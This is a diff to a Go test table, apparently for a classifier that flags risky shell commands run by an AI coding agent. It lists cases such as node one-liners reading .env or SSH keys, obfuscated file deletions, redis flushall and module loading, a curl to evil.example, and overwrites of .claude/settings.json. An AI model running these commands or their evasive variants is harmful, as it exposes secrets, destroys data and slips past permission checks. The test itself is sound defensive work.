@@ -20,6 +20,12 @@ func TestStarter(t *testing.T) {
 		"npx jasmine --require=/tmp/x.js": true, "npx svgo --config /tmp/x.js a.svg": true, "bundle exec pod repo push x": true, "echo x > Podfile; bundle exec pod install": true,
 		"curl -o x.rb a.example; bundle exec pod install": true,
 
+		"php artisan config:clear": false, "php artisan make:model Post -m": false, "php artisan migrate:fresh": true, "php artisan tinker --execute=x": true, "php -r x artisan list": true, "mix phx.routes": false, "mix ecto.drop": true,
+		`xcrun simctl boot "iPhone 15"`: false, "xcrun simctl erase all": true, "xcrun simctl spawn booted sh": true, "npx prisma --version": false, "npx playwright --version": false, "npx wrangler deploy": true,
+		"npx serve dist": false, "npx electron-builder --dir": false, "npx electron-builder --publish always": true, "bun build src/a.ts --outdir dist": false, "bun build https://x/y.ts": true, "flask db migrate -m x": false,
+		"django-admin startproject x": false, "django-admin startproject --template https://x/y.zip x": true, "./manage.py test": false, "./manage.py flush": true, "./manage.py shell": true, "redis-cli ping": false,
+		"redis-cli module load /tmp/x.so": true, `redis-cli "$x"`: true, "redis-cli flushall": true, "redis-cli --eval /tmp/x.lua": true,
+
 		// An address with a name in it that is known at run time only.
 		`curl -s "http://localhost:5155/a/$ID/b"`: false, `curl -s -X POST "http://localhost:5155/a/$ID" -d '{}'`: false, `X=$(curl -s a.example) && curl "https://b.example/$X"`: false,
 		`curl -s -X POST "http://es:9200/$I/_delete_by_query" -d '{}'`: true, `X=_delete_by_query; curl -XPOST "http://es:9200/logs/$X"`: true, `curl -d "http://x$X" http://evil.example`: true,
@@ -45,9 +51,16 @@ func TestStarter(t *testing.T) {
 		"git diff -- .claude/settings.json": false, "git log -p .claude/settings.json": false, "git show HEAD:.claude/settings.json": false, "git diff --output=.claude/settings.json a b": true, "git log --outp=.claude/settings.json": true,
 		"git show HEAD:x > .claude/settings.json": true, "git checkout HEAD~1 -- .claude/settings.json": true, "git mv a .claude/settings.json": true, "git archive -o .claude/settings.json HEAD": true,
 
-		// Files that a line of JavaScript reads.
+		// Lines of JavaScript that read files, and what else fs does.
 		`node -p 'JSON.parse(require("fs").readFileSync("a.json", "utf8")).b'`: false, `node -e 'console.log(require("fs").readFileSync(".env", "utf8"))'`: true,
 		`node -e 'const f = require("fs"); console.log(f.readFileSync("/home/x/.ssh/id_rsa"))'`: true, `tsx -p 'require("fs").readFileSync(".env", "utf8")'`: true,
+		`node -e "JSON.parse(require('fs').readFileSync('a.json','utf8')); console.log('ok')"`: false, `node -e "const fs = require('fs'); const j = JSON.parse(fs.readFileSync('./a.json')); console.log(j.a, j.c.slice(0,8))"`: false,
+		`cat a | node -e "console.log(JSON.parse(require('fs').readFileSync(0,'utf8')).x)"`: false,
+		`node -p "require('fs').readFileSync('.env','utf8')"`:                               true, `node -p "require('fs').readFileSync('a'+'b')"`: true, `node -p "require('fs').readFileSync(x)"`: true, `node -e "require('fs').rmSync('a')"`: true,
+		`node -e "const fs=require('fs'); ['a','b'].sort(fs.writeFileSync)"`: true, `node -e "['a','b'].sort(require('fs').writeFileSync)"`: true, `node -e "const a=require('fs');const b=require('fs'); ['x','y'].sort(a.rmSync)"`: true,
+		`node -e "const fs=require('fs'); const g=fs; g.rmSync('a')"`: true, `node -e "const fs=require('fs'); fs['rmSync']('a')"`: true, `node -e "const fs=require('fs')['rmSync']; fs('x')"`: true,
+		`node -e "const fs=require('fs'); fs.readFileSync.constructor('x')()"`: true, `node -e "const fs=require('fs').promises; fs.rm('x')"`: true, `tsx -e "console.log(require('fs').readFileSync('.env'))"`: true,
+		"node -e \"const fs=require('fs')\n(fs.rmSync)('x')\"": true, `node -e "const r=require; r('fs').rmSync('x')"`: true, `node -e "console.log(require('fs').readFileSync('x')); const fs=require('fs'); fs.rm('x')"`: true,
 
 		// The reflog.
 		"git reflog -n 12": false, "git reflog show -n 3 main": false, "git reflog expire --all": true, "git reflog -n 12 expire --all": true, "git reflog delete HEAD@{1}": true, `git reflog "$x" --all`: true,
